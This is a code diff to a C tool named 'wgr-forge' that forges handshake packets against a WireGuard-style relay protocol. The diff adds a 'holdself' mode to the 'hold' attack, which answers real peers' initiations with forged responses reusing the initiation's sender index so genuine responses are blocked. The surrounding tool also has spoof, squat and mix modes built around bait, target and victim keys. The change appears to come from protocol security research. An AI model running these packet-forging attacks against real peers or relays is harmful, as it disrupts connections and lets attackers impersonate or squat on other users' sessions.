@@ -34,6 +34,12 @@
  * would: relay load and discovery limits cannot tell it from one. Prints what it
  * achieved; exits 0.
  *
+ *   wgr-forge holdself ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM
+ *
+ * hold, answering every other initiation copy with responses whose sender
+ * index is the initiation's own (pass 6, G1: the index a real response then
+ * needs looks taken).
+ *
  *   wgr-forge squat ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM PUB_BAIT2 PUB_TARGET2
  *
  * Squat, then corroborate: hold with BAIT, TARGET and VICTIM (an offline peer,
@@ -454,7 +460,7 @@ static void hsock_initiate(struct hsock *hs, const uint8_t *pub, uint32_t sender
  * TARGET2 as VICTIM.
  */
 static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, char **keys,
-		char **keys2)
+		char **keys2, bool self_index)
 {
 	uint8_t k[3][32], k2[2][32], msg[1600];	/* bait, target, victim */
 	struct held held[HOLD_MAX];
@@ -534,6 +540,11 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 				/* A real peer's initiation: answer in every name. */
 				for (int j = 0; j < 3; j++) {
 					make_response(msg, sender, k[j]);
+					if (self_index) {
+						/* Its own sender index is the initiation's. */
+						put_le32(msg + 4, sender);
+						set_mac1(msg, 60, k[j]);
+					}
 					if (send(fd, msg, 92, 0) >= 0)
 						answered++;
 				}
@@ -1051,7 +1062,7 @@ int main(int argc, char *argv[])
 		return spoof(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "spoofstage"))
 		return spoofstage(argc, argv);
-	if (argc >= 2 && !strcmp(argv[1], "hold")) {
+	if (argc >= 2 && (!strcmp(argv[1], "hold") || !strcmp(argv[1], "holdself"))) {
 		long secs = argc == 8 ? strtol(argv[4], NULL, 10) : 0;
 
 		if (secs <= 0 || secs > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3]))) {
@@ -1059,7 +1070,7 @@ int main(int argc, char *argv[])
 					"PUB_BAIT PUB_TARGET PUB_VICTIM\n");
 			return 2;
 		}
-		return hold(&ss, sslen, secs, argv + 5, NULL);
+		return hold(&ss, sslen, secs, argv + 5, NULL, !strcmp(argv[1], "holdself"));
 	}
 	if (argc >= 2 && !strcmp(argv[1], "squat")) {
 		long secs = argc == 10 ? strtol(argv[4], NULL, 10) : 0;
@@ -1069,12 +1080,13 @@ int main(int argc, char *argv[])
 					"PUB_TARGET PUB_VICTIM PUB_BAIT2 PUB_TARGET2\n");
 			return 2;
 		}
-		return hold(&ss, sslen, secs, argv + 5, argv + 8);
+		return hold(&ss, sslen, secs, argv + 5, argv + 8, false);
 	}
 	if (argc < 6) {
 		fprintf(stderr, "usage: wgr-forge MODE ADDR PORT COUNT PPS [PUBKEY]\n"
 				"       wgr-forge stage ADDR PORT PUB_BAIT PUB_TARGET PUB_VICTIM\n"
-				"       wgr-forge hold ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM\n"
+				"       wgr-forge hold|holdself ADDR PORT SECONDS PUB_BAIT PUB_TARGET "
+				"PUB_VICTIM\n"
 				"       wgr-forge squat ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM "
 				"PUB_BAIT2 PUB_TARGET2\n"
 				"       wgr-forge mix ADDR PORT SECONDS PPS PUBKEY NPORTS\n"
